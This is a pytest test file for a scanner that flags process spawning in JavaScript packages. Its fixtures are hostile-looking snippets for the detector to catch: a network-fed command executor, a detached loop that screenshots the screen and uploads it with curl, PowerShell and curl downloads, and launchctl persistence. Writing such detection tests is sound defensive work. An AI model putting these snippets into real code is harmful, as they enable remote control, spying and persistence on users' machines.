from __future__ import annotations

import pytest

from scanner.behaviour.model import Capability

from ..snippets import analyse, details, found

SPAWN = Capability.PROCESS_SPAWN


@pytest.mark.parametrize(
    "source",
    [
        "const cp = require('child_process');",
        'const { exec } = require("node:child_process");',
        "import { spawn } from 'child_process';",
        "import * as cp from 'node:child_process';",
        "const cp = await import('child_process');",
        "export { execSync } from 'child_process';",
    ],
)
def test_child_process_in_every_loading_form(source: str) -> None:
    assert details(source, SPAWN) == {"child_process"}


def test_spawn_binding_without_the_module_name() -> None:
    assert details("process.binding('spawn_sync').spawn(opts);", SPAWN) == {"spawn binding"}


def test_spawning_libraries_are_named_as_libraries() -> None:
    assert details("const execa = require('execa');", SPAWN) == {"library:execa"}
    assert details("import spawn from 'cross-spawn';", SPAWN) == {"library:cross-spawn"}


def test_worker_running_a_code_string() -> None:
    source = "const { Worker } = require('worker_threads'); new Worker(code, { eval: true });"
    assert details(source, SPAWN) == {"worker eval"}
    assert not found("const { Worker } = require('worker_threads'); new Worker('./w.js');", SPAWN)


@pytest.mark.parametrize(
    "source",
    [
        "// require('child_process')",
        "/* import { exec } from 'child_process' */",
        "const help = 'run child_process yourself';",
        "const name = require.resolve('child_process');",
        "const re = /child_process/; re.exec(text); obj.spawn();",
    ],
)
def test_comments_strings_and_regex_exec_are_not_spawning(source: str) -> None:
    assert not found(source, SPAWN)


def test_found_by_pattern_when_the_file_is_over_the_cap() -> None:
    analysis = analyse("const cp = require('child_process');", max_parse_bytes=8)
    assert [s.detail for s in analysis.signals if s.capability is SPAWN] == ["child_process"]
    assert not analysis.parsed


def test_every_library_name_passes_the_keyword_gate() -> None:
    from scanner.behaviour.signals.process_spawn import SIGNAL, SPAWN_LIBRARIES

    for name in SPAWN_LIBRARIES:
        assert SIGNAL.applies_to(f"require('{name}')".encode()), name


def test_a_spawned_downloader_is_network_access() -> None:
    source = (
        "const { exec } = require('child_process');\n"
        "exec('curl https://download.example.test/jsextension -o jsextension');\n"
    )
    assert details(source, Capability.NETWORK) == {"spawn:curl"}
    powershell = (
        "const cp = require('child_process');\n"
        "cp.execSync(`powershell -c Invoke-WebRequest ${url} -OutFile x.exe`);\n"
    )
    assert details(powershell, Capability.NETWORK) == {"spawn:invoke-webrequest"}


def test_a_spawned_shell_is_named_even_behind_a_platform_switch() -> None:
    source = (
        "const { spawn } = require('child_process');\n"
        "spawn(process.platform === 'win32' ? 'cmd.exe' : '/bin/sh', []);\n"
    )
    assert details(source, SPAWN) == {"child_process", "shell:cmd", "shell:sh"}


def test_ordinary_commands_and_regex_exec_name_no_program() -> None:
    source = "const { execSync } = require('child_process');\nexecSync(`git status ${dir}`);\n"
    assert details(source, SPAWN) == {"child_process"}
    assert not found(source, Capability.NETWORK)
    assert not found("const re = /curl/; re.exec('curl -o x');", Capability.NETWORK)


def test_commands_run_from_a_data_handler_are_a_remote_command() -> None:
    bind = (
        "const net = require('net'); const { exec } = require('child_process');\n"
        "net.createServer((s) => { s.on('data', (line) => { exec(String(line).trim()); }); });\n"
    )
    assert "shell:remote-command" in details(bind, SPAWN)
    logging = "const { exec } = require('child_process'); p.on('data', log); exec(command);"
    assert "shell:remote-command" not in details(logging, SPAWN)


def test_a_spawned_command_line_is_read_like_a_line_of_a_script() -> None:
    source = (
        "const { execSync } = require('child_process');\n"
        "execSync('launchctl load -w ' + plist);\n"
    )
    assert details(source, Capability.FILE_WRITE) == {"persistence"}
    plain = "const { execSync } = require('child_process');\nexecSync('git status');\n"
    assert not found(plain, Capability.FILE_WRITE)


def test_a_command_line_held_in_a_variable_is_read_one_level_deep() -> None:
    source = (
        "const { spawn } = require('child_process');\n"
        "const loop = `while :; do screencapture -x /tmp/s.jpg; curl -F f=@/tmp/s.jpg ${u}; done`;"
        "\n"
        "spawn('/bin/sh', ['-c', loop], { detached: true });\n"
    )
    assert "screen" in details(source, Capability.CREDENTIAL_ACCESS)
    assert "curl" in details(source, Capability.NETWORK)
